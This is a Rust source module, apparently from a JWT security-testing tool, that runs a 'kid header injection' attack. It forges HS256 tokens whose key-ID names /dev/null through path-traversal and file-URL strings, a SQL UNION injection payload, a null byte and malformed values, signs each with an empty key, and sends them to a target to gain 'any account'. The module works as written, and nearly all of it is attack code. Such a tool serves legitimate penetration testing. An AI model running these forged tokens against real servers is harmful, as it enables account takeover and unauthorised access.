//! A key that the token names.

use aws_lc_rs::hmac;
use serde_json::Value;
use serde_json::json;

use crate::attack::{
    plan::{Attack, Expected, Needs, Tried},
    stage::Stage,
    target::encode,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "kid-injection",
    title: "A key that the token names",
    has: "an idea of where the server looks for keys",
    does: "names a file of known content as the key, or puts SQL into the name",
    gains: "any account",
    source: "RFC 8725 section 3.10; OWASP WSTG-SESS-10; F034",
    expected: Expected::EVERYWHERE.not_careless_session("it has no tokens"),
    needs: Needs::Requests,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (header, claims) = stage.base().await?;
    let names = [
        json!("../../../../../../dev/null"),
        json!("/dev/null"),
        json!("file:///dev/null"),
        json!("nothing' UNION SELECT '' -- "),
        json!("\u{0}"),
        json!("x".repeat(1500)),
        json!(0),
        json!({ "a": "b" }),
        json!([]),
        Value::Null,
    ];
    let mut tokens = Vec::new();
    for name in names {
        let mut header = header.clone();
        header["alg"] = "HS256".into();
        header["kid"] = name.clone();
        let signed = format!("{}.{}", encode(header.to_string()), encode(claims.to_string()));
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, b""), signed.as_bytes());
        let name = name.to_string().chars().take(40).collect::<String>();
        tokens.push((format!("kid {name}"), format!("{signed}.{}", encode(tag.as_ref()))));
    }
    stage.try_tokens(&tokens).await
}
